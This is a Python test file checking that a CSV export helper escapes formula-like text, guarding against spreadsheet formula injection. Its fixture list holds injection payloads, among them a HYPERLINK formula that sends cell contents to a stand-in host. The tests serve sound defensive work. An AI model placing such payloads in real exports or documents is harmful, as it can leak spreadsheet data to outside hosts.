"""CSV exports are safe to open in a spreadsheet: formula-like text is escaped, numbers are not."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from sauti.csv_safe import escape_formula, write_csv

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", HOSTILE, ids=["equals", "plus", "minus", "at", "tab", "cr", "fullwidth"])
def test_formula_like_text_gets_an_apostrophe(text: str) -> None:
    assert escape_formula(text) == "'" + text


@pytest.mark.parametrize(
    "value",
    ["Bangui", "Bimbo 2", "", "a=b", "50 km", "'quoted", 3, -2.5, None, np.nan],
    ids=[
        "name",
        "digits-inside",
        "empty",
        "equals-inside",
        "units",
        "apostrophe",
        "int",
        "neg-float",
        "none",
        "nan",
    ],
)
def test_other_values_are_unchanged(value) -> None:
    result = escape_formula(value)
    assert result is value or (isinstance(value, float) and np.isnan(result))


def test_write_csv_escapes_text_cells_and_headers_but_keeps_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "name": [*HOSTILE, "Bangui"],
            "risk": [-0.5, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7],
            "=evil": ["x"] * 8,
            "base": pd.array(["=A1", "ok", None, "ok", "ok", "ok", "ok", "-x"], dtype="string"),
        }
    )
    path = write_csv(frame, tmp_path / "out.csv", float_format="%.6g")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == ["name", "risk", "'=evil", "base"]
    names = [row[0] for row in rows[1:]]
    assert names == ["'" + text for text in HOSTILE] + ["Bangui"]
    assert rows[1][1] == "-0.5"  # a number, not text: written as is
    assert [row[3] for row in rows[1:]] == ["'=A1", "ok", "", "ok", "ok", "ok", "ok", "'-x"]
    # no written cell starts with a formula trigger
    for row in rows:
        for cell in row[0:1] + row[2:]:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert frame["name"].iloc[0] == HOSTILE[0]  # the caller's frame is left alone
